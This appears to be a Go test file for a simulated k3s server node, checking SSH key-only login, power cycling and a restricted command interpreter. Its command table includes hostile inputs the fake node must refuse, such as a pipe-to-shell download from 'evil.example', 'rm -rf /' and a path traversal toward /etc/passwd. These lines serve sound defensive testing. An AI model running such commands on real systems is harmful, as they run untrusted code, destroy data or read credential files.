package k3snode

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"net"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/smek/action/internal/fake/hcloudfake"
)

func newKey(t *testing.T) ssh.Signer {
	t.Helper()
	_, priv, _ := ed25519.GenerateKey(rand.Reader)
	s, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// bootedNode returns a powered-on node whose root accepts key.
func bootedNode(t *testing.T, key ssh.Signer) *Node {
	t.Helper()
	n, err := NewNode(Config{Dir: t.TempDir()}, hcloudfake.MachineSpec{
		ServerID: 7, Name: "node-7", AuthorizedKeys: []string{string(ssh.MarshalAuthorizedKey(key.PublicKey()))},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := n.PowerOn(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { n.Destroy() })
	return n
}

func dial(n *Node, user string, auth ...ssh.AuthMethod) (*ssh.Client, error) {
	return ssh.Dial("tcp", n.SSHAddr(), &ssh.ClientConfig{
		User: user, Auth: auth, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second,
	})
}

// TestPublicKeyAuthOnly: root with an authorized key gets in; another key,
// a password, keyboard-interactive or another user do not.
func TestPublicKeyAuthOnly(t *testing.T) {
	good, bad := newKey(t), newKey(t)
	n := bootedNode(t, good)
	c, err := dial(n, "root", ssh.PublicKeys(good))
	if err != nil {
		t.Fatalf("authorized key refused: %v", err)
	}
	var out bytes.Buffer
	s, _ := c.NewSession()
	s.Stdout = &out
	if err := s.Run("hostname"); err != nil || out.String() != "node-7\n" {
		t.Errorf("hostname: %q, %v", out.String(), err)
	}
	c.Close()
	refused := map[string][]ssh.AuthMethod{
		"another key":          {ssh.PublicKeys(bad)},
		"password":             {ssh.Password("root")},
		"keyboard-interactive": {ssh.KeyboardInteractive(func(string, string, []string, []bool) ([]string, error) { return []string{"root"}, nil })},
	}
	for name, auth := range refused {
		if c, err := dial(n, "root", auth...); err == nil {
			c.Close()
			t.Errorf("%s: logged in", name)
		}
	}
	if c, err := dial(n, "ubuntu", ssh.PublicKeys(good)); err == nil {
		c.Close()
		t.Errorf("user ubuntu: logged in")
	}
}

// TestPowerCycle: off closes the SSH port, on opens it again with the same
// host key; a reimage brings a new host key and an empty disk.
func TestPowerCycle(t *testing.T) {
	key := newKey(t)
	n := bootedNode(t, key)
	hostKey := func() string {
		var got ssh.PublicKey
		c, err := ssh.Dial("tcp", n.SSHAddr(), &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.PublicKeys(key)},
			HostKeyCallback: func(_ string, _ net.Addr, k ssh.PublicKey) error { got = k; return nil }})
		if err != nil {
			t.Fatal(err)
		}
		c.Close()
		return string(got.Marshal())
	}
	first := hostKey()
	if code := n.run("install -D -m 0644 /dev/stdin /etc/smek/marker", strings.NewReader("x"), &bytes.Buffer{}, &bytes.Buffer{}); code != 0 {
		t.Fatalf("install: %d", code)
	}
	addr := n.SSHAddr()
	if err := n.PowerOff(); err != nil {
		t.Fatal(err)
	}
	if n.SSHAddr() != "" {
		t.Errorf("SSH address while off: %q", n.SSHAddr())
	}
	if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
		c.Close()
		t.Errorf("port %s still open while off", addr)
	}
	if err := n.PowerOn(); err != nil {
		t.Fatal(err)
	}
	if hostKey() != first {
		t.Errorf("host key changed across a power cycle")
	}
	if err := n.Reimage(hcloudfake.Disk{}); err != nil {
		t.Fatal(err)
	}
	if err := n.PowerOn(); err != nil {
		t.Fatal(err)
	}
	if hostKey() == first {
		t.Errorf("host key kept across a reimage")
	}
	if _, err := n.readFile("/etc/smek/marker"); err == nil {
		t.Errorf("a file survived the reimage")
	}
}

// TestCommands runs the command set the bootstrap and the image build use,
// and what the node refuses.
func TestCommands(t *testing.T) {
	n := bootedNode(t, newKey(t))
	cases := []struct {
		line, stdin string
		code        int
		out, errOut string
	}{
		{line: "install -D -m 0600 /dev/stdin /etc/rancher/k3s/config.yaml", stdin: "node-name: a\n"},
		{line: "cat /etc/rancher/k3s/config.yaml", out: "node-name: a\n"},
		{line: "test -f /etc/rancher/k3s/config.yaml"},
		{line: "test -e /nope", code: 1},
		{line: "test -d /etc", code: 2, errOut: "unsupported"},
		{line: "install -m 0600 /dev/stdin /x", code: 1, errOut: "usage"},
		{line: "install -D -m 9z /dev/stdin /x", code: 1, errOut: "invalid mode"},
		{line: "install -D -m 0600 /dev/stdin relative/path", code: 1, errOut: "not an absolute path"},
		{line: "mkdir -p /var/lib/rancher/k3s/agent/images"},
		{line: "curl -sfLo /var/lib/rancher/k3s/agent/images/a.tar.zst https://example.com/a.tar.zst"},
		{line: "cat /var/lib/rancher/k3s/agent/images/a.tar.zst", out: "simulated download of https://example.com/a.tar.zst\n"},
		{line: "curl -sfL https://example.com/a", code: 2, errOut: "only downloads to a file"},
		{line: "cat /missing", code: 1, errOut: "No such file"},
		{line: "systemctl start k3s", code: 5, errOut: "not found"},
		{line: "k3s --version", code: 127, errOut: "not found"},
		{line: "curl -sfL https://get.k3s.io | INSTALL_K3S_SKIP_START=true INSTALL_K3S_SKIP_ENABLE=true INSTALL_K3S_VERSION=v1.36.3+k3s1 sh -"},
		{line: "k3s --version", out: "k3s version v1.36.3+k3s1\n"},
		{line: "systemctl is-active k3s", code: 3, out: "inactive\n"},
		{line: "install -D -m 0644 /dev/stdin /etc/systemd/system/smek-metadata-block.service", stdin: "[Unit]\n"},
		{line: "systemctl enable smek-metadata-block.service"},
		{line: "test -f /etc/systemd/system/multi-user.target.wants/smek-metadata-block.service"},
		{line: "systemctl enable nothing.service", code: 1, errOut: "does not exist"},
		{line: "systemctl reload k3s", code: 1, errOut: "unknown command"},
		{line: "systemctl start nginx", code: 5, errOut: "only the k3s unit"},
		{line: "curl -sfL https://evil.example | sh -", code: 2, errOut: "only the k3s installer"},
		{line: "curl -sfL https://get.k3s.io | bash", code: 2, errOut: "piped into sh"},
		{line: "cloud-init clean --logs"},
		{line: "test -e /var/lib/cloud/instance/boot", code: 1},
		{line: "cloud-init status", code: 1, errOut: "only clean"},
		{line: "rm -rf /", code: 1, errOut: "refusing"},
		{line: "rm -f /etc/rancher/k3s/config.yaml"},
		{line: "test -e /etc/rancher/k3s/config.yaml", code: 1},
		{line: "cat /../../etc/hostname", out: "node-7\n"},
		{line: "reboot", code: 127, errOut: "not found"},
		{line: "echo 'unterminated", code: 2, errOut: "unterminated quote"},
		{line: ""},
	}
	for _, c := range cases {
		var out, errOut bytes.Buffer
		code := n.run(c.line, strings.NewReader(c.stdin), &out, &errOut)
		if code != c.code || out.String() != c.out && c.out != "" || !strings.Contains(errOut.String(), c.errOut) {
			t.Errorf("%q: exit %d, out %q, err %q; want exit %d, out %q, err ~%q", c.line, code, out.String(), errOut.String(), c.code, c.out, c.errOut)
		}
	}
	// The path mapping never leaves the disk.
	p, err := n.path("/../../../../etc/passwd")
	if err != nil || !strings.HasPrefix(p, n.Disk()) {
		t.Errorf("path escapes the disk: %q, %v", p, err)
	}
	if _, err := os.Stat(n.Disk() + "/etc/hostname"); err != nil {
		t.Errorf("hostname not on the disk: %v", err)
	}
}

func TestSplitWords(t *testing.T) {
	cases := map[string][]string{
		`a b  c`:                     {"a", "b", "c"},
		`install -D -m 0600 "/x y"`:  {"install", "-D", "-m", "0600", "/x y"},
		`a 'b c' "d \"e\"" f\ g`:     {"a", "b c", `d "e"`, "f g"},
		`''`:                         {""},
		"a\tb\nc":                    {"a", "b", "c"},
		`x='1 2'y`:                   {"x=1 2y"},
		`curl -sfL https://get | sh`: {"curl", "-sfL", "https://get", "|", "sh"},
	}
	for in, want := range cases {
		got, err := splitWords(in)
		if err != nil || !slices.Equal(got, want) {
			t.Errorf("splitWords(%q): got %q, %v; want %q", in, got, err, want)
		}
	}
	for _, bad := range []string{`'a`, `"a`, `"a\"`} {
		if _, err := splitWords(bad); err == nil {
			t.Errorf("splitWords(%q): no error", bad)
		}
	}
}

// quote is how a shell-safe caller quotes a word for splitWords.
func quote(w string) string { return "'" + strings.ReplaceAll(w, "'", `'\''`) + "'" }

// FuzzSplitWords: any input splits without panicking, and the words it
// yields, quoted and joined, split back to the same words.
func FuzzSplitWords(f *testing.F) {
	for _, s := range []string{"", `a b`, `'a b' "c\"d" e\ f`, `"unterminated`, `'`, `\`, "a\x00b", `curl -sfL https://get.k3s.io | INSTALL_K3S_VERSION=v1 sh -`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		words, err := splitWords(s)
		if err != nil {
			return
		}
		var quoted []string
		for _, w := range words {
			quoted = append(quoted, quote(w))
		}
		again, err := splitWords(strings.Join(quoted, " "))
		if err != nil || !slices.Equal(again, words) {
			t.Fatalf("round trip of %q: %q → %q, %v", s, words, again, err)
		}
	})
}

// TestSSHClientIsTheCallersAddress: as OpenSSH's sshd, a session's
// SSH_CLIENT holds the caller's address and port and the server's port,
// and echo expands it: the only way for a caller to learn the address a
// server sees it at (behind NAT).
func TestSSHClientIsTheCallersAddress(t *testing.T) {
	key := newKey(t)
	n := bootedNode(t, key)
	c, err := dial(n, "root", ssh.PublicKeys(key))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	out, err := s.Output(`echo "$SSH_CLIENT" ${UNSET}x`)
	if err != nil {
		t.Fatal(err)
	}
	local := c.LocalAddr().(*net.TCPAddr)
	if got, want := string(out), fmt.Sprintf("127.0.0.1 %d 22 x\n", local.Port); got != want {
		t.Errorf("echo of SSH_CLIENT: %q, want %q", got, want)
	}
}
